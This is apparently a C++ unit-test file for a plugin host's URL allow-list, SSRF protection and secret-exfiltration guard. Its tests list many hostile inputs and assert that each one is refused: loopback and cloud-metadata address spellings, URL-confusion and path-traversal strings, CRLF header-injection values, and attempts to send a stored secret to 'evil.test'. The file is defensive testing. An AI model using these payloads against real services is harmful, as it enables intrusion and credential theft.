// Where an instance gets to: the allow-list, other spellings of forbidden places (SECURITY T15), and a plugin that wants the
// host to carry a secret elsewhere (T20). A trap listens on loopback and must see nobody.
#include <arpa/inet.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <boost/json.hpp>

#include "host/detail/transfer_service.hpp"
#include "host/manifest.hpp"
#include "host/test_doors.hpp"
#include "transports/guard.hpp"

namespace owed::host {
namespace {

using testing::HasSubstr;
using testing::Not;

UrlRules listed(std::vector<std::string> urls) { return {{}, false, std::move(urls), {}}; }

TEST(AllowList, knows_scheme_host_port_and_path) {
    const auto rules = listed({"https://*.example.com/api/", "smtp://mail.example.org:587", "https://plain.example.net", "https://exact.example.net/v1", "smtp://any.example.org"});
    for (const char* good : {"https://eu.example.com/api/v1", "HTTPS://A.B.EXAMPLE.COM/api/", "https://eu.example.com:443/api/v1?next=https://evil.net/", "smtp://mail.example.org:587",
                             "https://plain.example.net/x", "https://exact.example.net/v1", "https://exact.example.net/v1/a", "https://exact.example.net/v1?a=../..", "smtp://any.example.org:2525"})
        EXPECT_TRUE(check_allowed(good, rules)) << good;
    for (const char* bad : {"https://example.com/api/", "https://evilexample.com/api/", "https://eu.example.com/other", "http://eu.example.com/api/", "smtp://mail.example.org:25",
                            "smtp://mail.example.org", "https://eu.example.com.evil.net/api/", "https://evil.net/#.example.com/api/", "https://evil.net?x.example.com/api/",
                            "https://plain.example.net@evil.net/", "nonsense", "https://plain.example.net:8443/x", "https://eu.example.com/api/../other", "https://eu.example.com/api/%2e%2e/other",
                            "https://eu.example.com/api/..%2fother", "https://eu.example.com/api/%2E%2E%2Fother", "https://eu.example.com/api\\..\\other", "https://exact.example.net/v10",
                            "https://eu.example.com/api/%252e%252e/other", "https://plain.example.net./", "https://plain.example.net:443:80/"})
        EXPECT_FALSE(check_allowed(bad, rules)) << bad;
}

TEST(AllowList, is_the_manifests_narrowed_by_the_configuration) {
    struct Case {
        const char* name;
        UrlRules rules;
        const char* url;
        bool allowed;
    };
    const std::vector<std::string> wide{"https://*.example.com/"}, narrow{"https://eu.example.com/"}, other{"https://other.example.net/"};
    for (const Case& c : {
             Case{"settings alone", {{}, false, {}, {"eu.example.com"}}, "https://eu.example.com/", true},
             Case{"not in settings", {{}, false, {}, {"eu.example.com"}}, "https://us.example.com/", false},
             Case{"configuration alone", {{}, false, narrow, {"us.example.com"}}, "https://us.example.com/", false},
             Case{"manifest alone", {wide, true, {}, {}}, "https://us.example.com/", true},
             Case{"manifest, not in settings' favour", {wide, true, {}, {"evil.net"}}, "https://evil.net/", false},
             Case{"both", {wide, true, narrow, {}}, "https://eu.example.com/", true},
             Case{"configuration narrows", {wide, true, narrow, {}}, "https://us.example.com/", false},
             Case{"configuration does not widen", {wide, true, other, {}}, "https://other.example.net/", false},
             Case{"a manifest that asks for nothing", {{}, true, {}, {"eu.example.com"}}, "https://eu.example.com/", false},
         })
        EXPECT_EQ(check_allowed(c.url, c.rules).has_value(), c.allowed) << c.name;
}

TEST(AllowList, a_setting_names_a_server_by_itself_or_in_a_url) {
    EXPECT_EQ(setting_named_by("settings:/login/url"), "/login/url");
    EXPECT_FALSE(setting_named_by("https://settings:8443/"));
    const auto settings = boost::json::parse(R"({"login": {"url": "https://Login.example.com:8443/services/oauth2"}, "host": "mail.example.org", "port": 25, "none": "", "odd": "no server"})");
    EXPECT_EQ(server_in_setting(settings, "/login/url"), "https://login.example.com:8443");
    EXPECT_EQ(server_in_setting(settings, "/host"), "https://mail.example.org");
    for (const char* nothing : {"/port", "/none", "/odd", "/login", "/missing", "host"}) EXPECT_FALSE(server_in_setting(settings, nothing)) << nothing;
}

TEST(AllowList, files_and_mailboxes_have_their_usual_port_and_a_destination) {
    EXPECT_TRUE(check_allowed("imaps://mail.example.com:993/INBOX", listed({"imaps://mail.example.com/"})));
    EXPECT_TRUE(check_allowed("ftps://bank.example.com/in/a", listed({"ftps://bank.example.com:990/in"})));
    EXPECT_FALSE(check_allowed("imaps://mail.example.com:8993/INBOX", listed({"imaps://mail.example.com/"})));
    EXPECT_FALSE(check_allowed("imap://mail.example.com/INBOX", listed({"imaps://mail.example.com/"})));
    EXPECT_FALSE(check_allowed("ftp://bank.example.com/out/a", listed({"ftp://bank.example.com/in"})));
    EXPECT_TRUE(check_allowed("sftp://bank.example.com:2222/in", listed({"sftp://bank.example.com/"})));
    EXPECT_EQ(destination_url("sftp://bank.example.com:2222/in/a", "/done/a b"), "sftp://bank.example.com:2222/done/a%20b");
    EXPECT_EQ(destination_url("imaps://mail.example.com/INBOX", "Erledigt"), "imaps://mail.example.com/Erledigt");
    EXPECT_EQ(destination_url("https://dav.example.com/a", "https://dav.example.com/b"), std::nullopt);
    EXPECT_EQ(destination_url("no url", "/a"), std::nullopt);
}

TEST(AllowList, a_refusal_says_what_to_add) {
    const auto refused = check_allowed("https://api.example.net:8443/x?token=abc", listed({"https://api.example.com/"}));
    ASSERT_FALSE(refused);
    EXPECT_EQ(refused.error().code, Errc::invalid_config);
    EXPECT_EQ(refused.error().advice, "if that is right, add \"https://api.example.net:8443/\" to the connector's allow_urls");
    EXPECT_THAT(to_text(refused.error()), Not(HasSubstr("abc")));
}

TEST(AllowList, patterns_are_checked) {
    for (const char* good : {"https://*.example.com/", "https://api.example.com:8443/v1/", "smtp://mail.example.com", "sftp://bank.example", "https://127.0.0.1:8443/", "https://[::1]/"})
        EXPECT_TRUE(check_pattern(good)) << good;
    for (const char* bad : {"https://*/", "https://*.com/", "*.example.com", "api.example.com", "https://user@x.example.com/", "https://a.*.example.com/", "", "https:///x", "https://x.example.com./"})
        EXPECT_FALSE(check_pattern(bad)) << bad;
}

TEST(AllowList, of_a_manifest_is_checked) {
    const auto manifest = [](const char* urls, const char* permissions = R"(["transfer"])") {
        return parse_manifest(std::string{R"({"id":"x","version":"1","kinds":["source"],"permissions":)"} + permissions + R"(,"urls":)" + urls + "}", "x.so");
    };
    const auto good = manifest(R"(["https://*.example.com/", "settings:/login_url"])");
    ASSERT_TRUE(good) << to_text(good.error());
    EXPECT_EQ(good->urls->size(), 2u);
    EXPECT_FALSE(manifest(R"(["*"])"));
    EXPECT_FALSE(manifest(R"("https://x.example.com/")"));
    EXPECT_FALSE(manifest(R"(["https://x.example.com/"])", "[]"));
}

// ---- the trap

/// Listens on every address of this machine, on one port.
class Trap {
  public:
    Trap() {
        fd_ = ::socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
        const int off = 0;
        ::setsockopt(fd_, IPPROTO_IPV6, IPV6_V6ONLY, &off, sizeof off);
        sockaddr_in6 address{};
        address.sin6_family = AF_INET6;
        address.sin6_addr = in6addr_any;
        socklen_t size = sizeof address;
        if (::bind(fd_, reinterpret_cast<sockaddr*>(&address), size) != 0 || ::listen(fd_, 16) != 0) return;
        ::getsockname(fd_, reinterpret_cast<sockaddr*>(&address), &size);
        port_ = ntohs(address.sin6_port);
    }
    ~Trap() { ::close(fd_); }
    Trap(const Trap&) = delete;
    Trap& operator=(const Trap&) = delete;
    std::string port() const { return std::to_string(port_); }
    bool caught_one() const {
        pollfd one{fd_, POLLIN, 0};
        return ::poll(&one, 1, 0) > 0;
    }

  private:
    int fd_ = -1;
    int port_ = 0;
};

struct Network {
    InstanceConfig config;
    UrlRules rules;
    test::SetClock clock;
    test::CountingRng rng;
    test::KeptLog log;
    std::unique_ptr<TransferService> service;
    Network() {
        config.name = "crm";
        config.transfer.plain_text_on_loopback = false;
        config.transfer.timeout_ms = 2'000;
        rules.allow_urls = {"https://api.example.test/", "https://*.trusted.example/"};
        config.secret = [](std::string_view) -> Result<std::string> { return std::string{"hunter2-hunter2"}; };
    }
    Result<TransferReply> get(const std::string& url) {
        if (!service) service = std::make_unique<TransferService>(config, rules, TransferService::Doors{clock, rng, log, {}, {}});
        TransferRequest request;
        request.method = "GET";
        request.url = url;
        request.headers = {{"Authorization", {{true, OWED_RAW, "login"}}}};
        return service->perform(request, std::chrono::seconds{3}, {});
    }
};

TEST(Ssrf, no_spelling_of_this_machine_or_its_network_gets_through) {
    const Trap trap;
    ASSERT_NE(trap.port(), "0");
    Network network;
    for (const char* host : {
             "127.0.0.1", "127.0.0.1.", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.0.0.1", "0177.0.0.1", "017700000001", "127.000.000.001", "0", "0.0.0.0", "0x0", "127.255.255.254",
             "localhost", "LOCALHOST", "localhost.", "a.localhost", "localhost.localdomain", "ip6-localhost", "[::1]", "[::]", "[0:0:0:0:0:0:0:1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]",
             "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[fe80::1]", "[fe80::1%25lo]", "169.254.169.254", "[::ffff:169.254.169.254]", "2852039166", "10.0.0.1", "192.168.1.1",
             "172.16.0.1", "metadata.google.internal", "xn--localhost-.", "%6c%6f%63alhost", "127.0.0.1%00.api.example.test", "\xe2\x91\xa0\xe2\x91\xa1\xe2\x91\xa6.0.0.1", "127\xe3\x80\x82""0.0.1",
             "api.example.test@127.0.0.1", "api.example.test:443@127.0.0.1", "127.0.0.1#@api.example.test", "127.0.0.1?@api.example.test", "127.0.0.1\\@api.example.test",
             "api.example.test.127.0.0.1.nip.io", "trusted.example", "eviltrusted.example", "a.trusted.example.127.0.0.1", " 127.0.0.1", "127.0.0.1\t", "api.example.test\r\nHost: x",
         }) {
        for (const std::string scheme : {"https://", "http://", "HTTPS://", "smtp://", "ftp://", "file://", "gopher://", "dict://", "https:", "https:/", "https:///"}) {
            const std::string url = scheme + host + ":" + trap.port() + "/latest/meta-data";
            const auto reply = network.get(url);
            EXPECT_FALSE(reply) << url;
        }
    }
    EXPECT_FALSE(trap.caught_one());
}

TEST(Ssrf, a_pattern_that_fits_does_not_lead_to_this_machine_by_name) {
    const Trap trap;
    // What DNS could say of an allowed name, a moment after it said something else (rebinding): the socket is what counts.
    transports::Session session;
    for (const char* address : {"127.0.0.1", "::1", "::ffff:127.0.0.1", "127.8.8.8", "0.0.0.0", "::", "169.254.169.254", "64:ff9b::7f00:1", "2002:7f00:1::"}) {
        transports::Request request;
        request.url = "https://api.trusted.example:" + trap.port() + "/";
        request.addresses = {"api.trusted.example:" + trap.port() + ":" + (std::string_view{address}.find(':') == std::string_view::npos ? address : "[" + std::string{address} + "]")};
        request.timeout_ms = 2'000;
        const auto response = session.transfer(request);
        ASSERT_FALSE(response) << address << " " << response->detail;
        EXPECT_EQ(response.error().code, Errc::invalid_config) << address;
    }
    EXPECT_FALSE(trap.caught_one());
}

// ---- the confused deputy

TEST(Deputy, no_attempt_carries_a_secret_away) {
    struct Attempt {
        const char* name;
        std::function<void(TransferRequest&)> change;
        bool may_be_sent = false;  ///< as harmless text, to the allowed host
    };
    const auto header = [](std::string name) {
        return [name](TransferRequest& r) { r.headers.push_back({name, {{false, OWED_RAW, "evil.test"}}}); };
    };
    const Attempt attempts[] = {
        {"other host", [](TransferRequest& r) { r.url = "https://evil.test/"; }},
        {"user info", [](TransferRequest& r) { r.url = "https://api.example.test@evil.test/"; }},
        {"subdomain of evil", [](TransferRequest& r) { r.url = "https://api.example.test.evil.test/"; }},
        {"other port", [](TransferRequest& r) { r.url = "https://api.example.test:8443/"; }},
        {"other scheme", [](TransferRequest& r) { r.url = "http://api.example.test/"; }},
        {"mail to anybody", [](TransferRequest& r) { r.url = "smtp://api.example.test/"; }},
        {"host header", header("Host")},
        {"host header in capitals", header("HOST")},
        {"length header", header("Content-Length")},
        {"transfer encoding", header("Transfer-Encoding")},
        {"proxy header", header("Proxy-Authorization")},
        {"second request in a header", [](TransferRequest& r) { r.headers.push_back({"X", {{false, OWED_RAW, "a\r\n\r\nGET / HTTP/1.1"}}}); }},
        {"header name with a line", header("X: y\r\nHost")},
        {"method with a line", [](TransferRequest& r) { r.method = "GET https://evil.test/ HTTP/1.1\r\nX:"; }},
        {"connect", [](TransferRequest& r) { r.method = "CONNECT"; }},
        {"plain text", [](TransferRequest& r) { r.tls = OWED_TLS_NONE; }},
        {"secret bound to another place", [](TransferRequest& r) { r.url = "https://other.example.test/"; }},
        {"path outside of the secret's", [](TransferRequest& r) { r.url = "https://api.example.test/public/echo"; }},
        {"path outside by dots", [](TransferRequest& r) { r.url = "https://api.example.test/private/../public/echo"; }},
        {"name in the url", [](TransferRequest& r) { r.url += "?key={{secret:login}}&k=${login}&s=secret(login)"; }, true},
        {"name as recipient", [](TransferRequest& r) { r.recipients = {"secret(login)@evil.test"}; }, true},
        {"name as sender and key", [](TransferRequest& r) { r.mail_from = "{{secret:login}}", r.idempotency_key = "{{secret:login}}"; }, true},
        {"secret named by a secret", [](TransferRequest& r) { r.body = {{true, OWED_RAW, "{{secret:login}}"}}; }},
        {"file as a secret", [](TransferRequest& r) { r.body = {{true, OWED_RAW, "file:/etc/owed/credentials/smtp"}}; }},
    };
    for (const auto& attempt : attempts) {
        Network network;
        network.rules.allow_urls = {"https://api.example.test/", "https://other.example.test/"};
        network.config.secret_urls["login"] = {"https://api.example.test/private/"};
        network.config.secret = [](std::string_view name) -> Result<std::string> {
            if (name == "login") return std::string{"hunter2-hunter2"};
            return fail(Errc::invalid_config, "no such secret");
        };
        std::vector<transports::Request> sent;
        TransferService service{network.config, network.rules, {network.clock, network.rng, network.log, [&](const transports::Request& request) -> Result<transports::Response> {
            OWED_TRY_VOID(transports::check(request));  // what the network would refuse
            sent.push_back(request);
            transports::Response response;
            response.outcome = transports::Outcome::refused;
            response.status = 302;
            response.headers = {{"Location", "https://evil.test/"}};
            return response;
        }, {}}};
        TransferRequest request;
        request.method = "POST";
        request.url = "https://api.example.test/private/x";
        request.headers = {{"Authorization", {{true, OWED_RAW, "login"}}}};
        attempt.change(request);
        const auto reply = service.perform(request, std::chrono::seconds{3}, {});
        EXPECT_EQ(reply.has_value(), attempt.may_be_sent) << attempt.name;
        EXPECT_EQ(sent.size(), attempt.may_be_sent ? 1u : 0u) << attempt.name;  // one: a redirect is an answer, not a way
        for (const auto& one : sent) {
            EXPECT_TRUE(one.url.starts_with("https://api.example.test/private/x")) << attempt.name;
            EXPECT_THAT(one.url + one.mail_from + one.method + (one.recipients.empty() ? "" : one.recipients[0]), Not(HasSubstr("hunter2"))) << attempt.name;
        }
        EXPECT_THAT(reply ? reply->message : to_text(reply.error()), Not(HasSubstr("hunter2"))) << attempt.name;
    }
}

}  // namespace
}  // namespace owed::host
